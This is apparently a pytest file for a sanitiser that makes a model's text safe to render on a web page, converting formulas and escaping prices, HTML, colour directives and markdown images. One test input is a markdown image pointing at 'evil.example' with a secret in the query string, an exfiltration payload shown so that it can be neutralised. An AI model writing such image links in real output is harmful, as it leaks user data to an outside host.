"""A model's text on a page: formulas are drawn, and nothing it writes acts on the page."""

import time

import pytest

from assistant import literal, showable


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (r"so \(x^2\) is", "so $x^2$ is"),
        (r"so \( x^2 \) is", "so $x^2$ is"),
        ("so \\(a\n+ b\\) is", "so $a + b$ is"),
        (r"中文\(x\)中文", "中文$x$中文"),
        (r"a \[x\] b", "a $$x$$ b"),
        ("\\[\nx = 1\n\\]", "$$\nx = 1\n$$"),
        (r"\[ x = 1 \]", "$$\nx = 1\n$$"),
        ("1. so\n   \\[\n   x\n   \\]\n", "1. so\n   $$\n   x\n   $$\n"),
        ("$x$ and $$y$$", "$x$ and $$y$$"),
        (r"an open \( stays", r"an open \( stays"),
        (r"an open \[ stays", r"an open \[ stays"),
    ],
)
def test_formulas_come_in_dollars(written: str, shown: str) -> None:
    assert showable(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("$5 and $6", r"\$5 and \$6"),
        ("costs $5", r"costs \$5"),
        ("$5, or $x$ in all", r"\$5, or $x$ in all"),
        ("US$100 to US$200", r"US\$100 to US\$200"),
        (r"already \$5", r"already \$5"),
        ("a $ b $ c", r"a \$ b \$ c"),
        ("$x$5", r"\$x\$5"),
        (r"\\$x$", r"\\$x$"),
        (r"\\(x\\)", r"\\(x\\)"),
    ],
)
def test_prices_are_no_formulas(written: str, shown: str) -> None:
    assert showable(written) == shown


@pytest.mark.parametrize(
    "code",
    [
        "`\\(x\\) $5 <b> :red[c]`",
        "``a ` $5 ` b``",
        "```python\nprint('\\(x\\) $5 ![a](b) :red[c]')\n```\n",
        "~~~\n$5\n~~~\n",
        "````\n```\n$5\n```\n````\n",
        "```python\nstill being written: $5 \\(x\\)",
        "   ```\n   $5\n   ```\n",
        "1. a\n    ```\n    $5\n    ```\n",
        "```\n$5",
        "```",
    ],
)
def test_code_is_left_as_it_is(code: str) -> None:
    assert showable(code) == code


def test_text_around_code_is_not_code() -> None:
    written = "\\(a\\)\n```\n\\(b\\)\n```\n\\(c\\) `\\(d\\)` \\(e\\)"
    assert showable(written) == "$a$\n```\n\\(b\\)\n```\n$c$ `\\(d\\)` $e$"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![x](http://evil.example/?q=secret)", r"\![x](http://evil.example/?q=secret)"),
        ("![x][1]\n\n[1]: http://evil.example", "\\![x][1]\n\n[1]: http://evil.example"),
        ("[![x](http://a)](http://b)", r"[\![x](http://a)](http://b)"),
        ("wow!![x](http://a)", r"wow!\![x](http://a)"),
        (r"\![x](http://a)", r"\![x](http://a)"),
        (r"\\![x](http://a)", r"\\\![x](http://a)"),
        ("`![x](http://a)`", r"`\![x](http://a)`"),  # in a table, the page sees an image
        (r"\`![x](http://a)`", r"\`\![x](http://a)`"),
        ("- a\n\n  ```\n![x](http://a)", "- a\n\n  ```\n\\![x](http://a)"),
        ("``` a`b\n![x](http://a)\n```", "``` a`b\n\\![x](http://a)\n```"),
        ("<!--\n```\n-->\n![x](a)\n```", "\\<!--\n```\n-->\n![x](a)\n```"),
        ("$$\n```\n$$\n![x](a)\n```", "\\$\\$\n```\n$$\n![x](a)\n```"),
        ("really! [x](http://a)", "really! [x](http://a)"),
    ],
)
def test_images_become_links(written: str, shown: str) -> None:
    assert showable(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (":red[stop]", r"\:red[stop]"),
        (":blue-background[x]", r"\:blue-background[x]"),
        (":color[x]{foreground='red'}", r"\:color[x]{foreground='red'}"),
        ("at 10:30 [x]", "at 10:30 [x]"),
        ("a[1:red[0]]", "a[1:red[0]]"),
        ("std::vector", "std::vector"),
        (":::note", r"\:\::note"),
        ("<b>bold</b> 1 < 2", r"\<b>bold\</b> 1 < 2"),
    ],
)
def test_the_pages_own_orders_stay_text(written: str, shown: str) -> None:
    assert showable(written) == shown


@pytest.mark.parametrize(
    "fence", ["```mermaid", "~~~ Mermaid", "> ```mermaid", "```&#109;ermaid", "```{.mermaid}"]
)
def test_a_diagram_stays_code(fence: str) -> None:
    shown = showable(f"{fence}\ngraph TD\n")
    assert "ermaid" not in shown
    assert shown.endswith("text\ngraph TD\n")


def test_what_is_no_markdown_is_shown_as_it_is() -> None:
    assert literal("a_b/![x](y): 5%") == r"a\_b/\!\[x\]\(y\)\: 5%"


@pytest.mark.parametrize(
    "hostile", ["`" * 50_000, "\\(" * 30_000, "$" * 50_000, "![" * 30_000, "\\[ " * 30_000]
)
def test_hostile_text_takes_no_time(hostile: str) -> None:
    before = time.process_time()
    showable(hostile)
    assert time.process_time() - before < 2
